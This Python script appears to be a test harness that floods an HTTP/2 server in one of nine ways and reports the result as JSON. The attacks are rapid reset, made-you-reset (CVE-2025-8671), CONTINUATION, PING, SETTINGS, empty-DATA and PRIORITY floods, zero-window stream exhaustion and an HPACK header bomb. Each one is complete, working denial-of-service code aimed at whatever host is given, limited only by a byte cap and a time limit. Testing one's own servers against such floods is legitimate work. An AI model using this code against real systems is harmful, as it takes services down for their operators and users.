"""Floods one HTTP/2 connection in one way (EDGE X3-X5) and says how it ended, as one line of JSON.

    h2_flood.py HOST PORT PATH KIND SECONDS

The connection is plain, by prior knowledge. Frames are made by hyperframe and hpack, as a well-behaved library would refuse to make them.
"""

import json
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 200
# What is sent at most, whatever the time allows.
MOST = 64 << 20


class Flood:
    def __init__(self, host, port, path, seconds):
        self.authority = f"{host}:{port}"
        self.path = path
        self.socket = socket.create_connection((host, port), timeout=5)
        self.deadline = time.monotonic() + seconds
        self.encoder = Encoder()
        self.stream = 1
        self.sent = 0
        self.frames = 0
        self.resets = 0
        self.goaway = None
        self.closed = False
        self.unread = b""

    def head(self, method="GET", more=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", self.authority), (":path", self.path)]
        return self.encoder.encode(fields + list(more))

    def next_stream(self):
        stream, self.stream = self.stream, self.stream + 2
        return stream

    def send(self, *frames):
        self.write(b"".join(frame.serialize() for frame in frames))
        self.frames += len(frames)

    def write(self, data):
        """Sends all, reading meanwhile what a fair client would read: a flood must not be saved by its own deafness."""
        view = memoryview(data)
        while view and not self.closed:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.2)
            if readable:
                self.read()
            if writable:
                try:
                    count = self.socket.send(view[: 1 << 16])
                except OSError:
                    self.closed = True
                    return
                self.sent += count
                view = view[count:]
            if time.monotonic() > self.deadline:
                return

    def read(self):
        try:
            data = self.socket.recv(1 << 16)
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return
        self.unread += data
        while len(self.unread) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.unread[:9]))
            if len(self.unread) < 9 + length:
                return
            body, self.unread = self.unread[9 : 9 + length], self.unread[9 + length :]
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(body))
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1

    def goes_on(self):
        return not self.closed and self.goaway is None and self.sent < MOST and time.monotonic() < self.deadline

    def start(self, settings=None):
        self.write(PREFACE)
        self.send(SettingsFrame(0, settings=settings or {}))

    def run(self, kind):
        getattr(self, kind.replace("-", "_"))()
        while not self.closed and self.goaway is None and time.monotonic() < self.deadline:
            if select.select([self.socket], [], [], 0.1)[0]:
                self.read()
        says = ("sent", "frames", "resets", "goaway", "closed")
        print(json.dumps({name: getattr(self, name) for name in says}), flush=True)

    def rapid_reset(self):
        self.start()
        while self.goes_on():
            frames = []
            for _ in range(BATCH):
                stream = self.next_stream()
                frames.append(HeadersFrame(stream, self.head(), flags=["END_HEADERS", "END_STREAM"]))
                frames.append(RstStreamFrame(stream, error_code=8))
            self.send(*frames)

    def made_you_reset(self):
        """Each stream breaks a rule, so that the server resets it (CVE-2025-8671)."""
        self.start()
        while self.goes_on():
            frames = []
            for _ in range(BATCH):
                stream = self.next_stream()
                frames.append(HeadersFrame(stream, self.head(), flags=["END_HEADERS", "END_STREAM"]))
                frames.append(WindowUpdateFrame(stream, window_increment=0x7FFFFFFF))
            self.send(*frames)

    def continuation(self):
        self.start()
        stream = self.next_stream()
        self.send(HeadersFrame(stream, self.head(), flags=["END_STREAM"]))
        while self.goes_on():
            self.send(*(ContinuationFrame(stream, b"\x00\x01a\x7f\x00" + b"b" * 127) for _ in range(BATCH)))

    def ping(self):
        self.start()
        while self.goes_on():
            self.send(*(PingFrame(0, b"wellspng") for _ in range(BATCH)))

    def settings(self):
        self.start()
        while self.goes_on():
            self.send(*(SettingsFrame(0, settings={4: 65535}) for _ in range(BATCH)))

    def empty_data(self):
        self.start()
        stream = self.next_stream()
        self.send(HeadersFrame(stream, self.head("POST"), flags=["END_HEADERS"]))
        while self.goes_on():
            self.send(*(DataFrame(stream, b"") for _ in range(BATCH)))

    def priority(self):
        self.start()
        while self.goes_on():
            frames = []
            for _ in range(BATCH):
                frame = PriorityFrame(self.next_stream())
                frame.depends_on, frame.stream_weight = 0, 7
                frames.append(frame)
            self.send(*frames)

    def zero_window(self):
        """As many streams as are allowed, none of which is ever given room."""
        self.start(settings={4: 0})
        accept = [("accept", "text/event-stream")]
        while self.goes_on():
            frames = []
            for _ in range(100):
                stream = self.next_stream()
                frames.append(HeadersFrame(stream, self.head(more=accept), flags=["END_HEADERS", "END_STREAM"]))
            self.send(*frames)
            if select.select([self.socket], [], [], 0.2)[0]:
                self.read()

    def header_bomb(self):
        """Few bytes that unpack to many: one large field in the table, named again and again."""
        self.start()
        while self.goes_on():
            stream = self.next_stream()
            block = self.head(more=[("x-bomb", "a" * 3900)] * 1)
            again = self.encoder.encode([("x-bomb", "a" * 3900)])
            # Indexed after the first time: one byte a field of 4 KB.
            self.send(HeadersFrame(stream, block + again * 4000, flags=["END_HEADERS", "END_STREAM"]))


if __name__ == "__main__":
    host, port, path, kind, seconds = sys.argv[1:]
    Flood(host, int(port), path, float(seconds)).run(kind)
